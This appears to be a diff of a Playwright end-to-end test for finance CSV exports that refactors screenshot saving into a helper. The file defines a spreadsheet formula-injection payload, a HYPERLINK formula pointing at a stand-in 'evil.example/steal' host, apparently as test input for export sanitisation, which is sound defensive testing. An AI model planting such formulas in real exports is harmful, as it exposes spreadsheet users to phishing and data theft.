@@ -7,6 +7,7 @@ import { validateFocusCsv } from "../lib/exports/focus-validate";
 import { e2eDay } from "./clock";
 import { runFixture } from "./fixtures/run-fixture";
 import { storageStateFor } from "./roles";
+import { saveScreenshot } from "./screenshots";
 
 const EVIL = '=HYPERLINK("http://evil.example/steal","Click me")';
 
@@ -35,11 +36,7 @@ test.describe("finance exports", () => {
     await page.getByTestId("group-by-member").check();
     await expect(page.getByText(/Preview: first \d+ of/)).toBeVisible();
     await expect(page.getByTestId("export-preview")).toContainText("@acme.example");
-    const shot = await page.screenshot({
-      fullPage: true,
-      path: "test-results/screenshots/exports-finance.png",
-    });
-    await testInfo.attach("exports", { body: shot, contentType: "image/png" });
+    await saveScreenshot(page, "exports-finance", { attachTo: testInfo });
 
     const [download] = await Promise.all([
       page.waitForEvent("download"),
